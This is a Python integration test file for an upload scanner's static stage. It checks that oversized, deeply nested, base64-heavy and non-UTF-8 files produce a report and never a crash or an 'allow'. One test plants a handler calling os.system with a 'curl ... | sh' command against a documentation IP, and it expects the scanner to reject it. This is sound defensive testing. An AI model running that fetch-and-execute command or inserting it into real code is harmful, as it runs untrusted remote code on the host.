"""Hostile shapes of input never crash the static stage nor run it past its bounds.

Each case runs the real stage (semgrep, text checks, deobfuscation, scoring) on one
upload. It must finish with a report: ``ok`` (with findings or none) or ``error`` with
verdict ``review``; never an exception, never ``allow`` on an analysis it gave up.
"""

from __future__ import annotations

import base64
import os
from pathlib import Path

import pytest

from sless.config import ValidationSettings
from sless.validation.report import Verdict
from sless.validation.static import run_static

pytestmark = pytest.mark.integration


def _minified_bundle() -> str:
    body = ",".join(f"f{i}:function(a,b){{return a*{i}+b}}" for i in range(20_000))
    return "!function(){var m={" + body + "};module.exports=m}();"


CASES = {
    "huge-single-line.js": lambda: "var x=" + "1+" * 1_000_000 + "1;",
    "bundle.min.js": _minified_bundle,
    "blob.py": lambda: f"DATA = {base64.b64encode(os.urandom(3_750_000)).decode()!r}\n",
    "deep.py": lambda: "x = " + "[" * 3000 + "]" * 3000 + "\n",
    "deep.js": lambda: "var x = " + "(" * 3000 + "1" + ")" * 3000 + ";\n",
}


@pytest.mark.parametrize("name", sorted(CASES))
async def test_hostile_shapes_get_a_report(tmp_path: Path, name: str) -> None:
    (tmp_path / "handler.py").write_text("def handle(event, context):\n    return 1\n")
    (tmp_path / name).write_text(CASES[name]())
    # a 20 s budget (5 s per file): what semgrep cannot finish becomes a review finding
    result = await run_static(tmp_path, "python", ValidationSettings(semgrep_timeout_s=20))
    if result.status == "error":
        assert result.verdict is not Verdict.ALLOW
    else:
        assert result.status == "ok", result.detail


async def test_five_megabytes_of_base64_is_held_not_crashed(tmp_path: Path) -> None:
    blob = base64.b64encode(os.urandom(3_750_000)).decode()
    (tmp_path / "handler.py").write_text(f"import base64\nDATA = {blob!r}\n")
    assert len(blob) >= 5_000_000
    result = await run_static(tmp_path, "python", ValidationSettings(semgrep_timeout_s=60))
    assert result.verdict is Verdict.REVIEW
    assert "py-long-base64-blob" in {f.rule for f in result.findings}


async def test_non_utf8_source_is_scanned(tmp_path: Path) -> None:
    (tmp_path / "handler.py").write_bytes(
        b"# caf\xe9\nimport os\n\ndef handle(event, context):\n"
        b"    os.system('curl http://203.0.113.9/x | sh')\n"
    )
    (tmp_path / "latin1.js").write_bytes(b"var s = '\xff\xfe\xe9';\nmodule.exports = s;\n")
    result = await run_static(tmp_path, "python", ValidationSettings())
    assert result.verdict is Verdict.REJECT
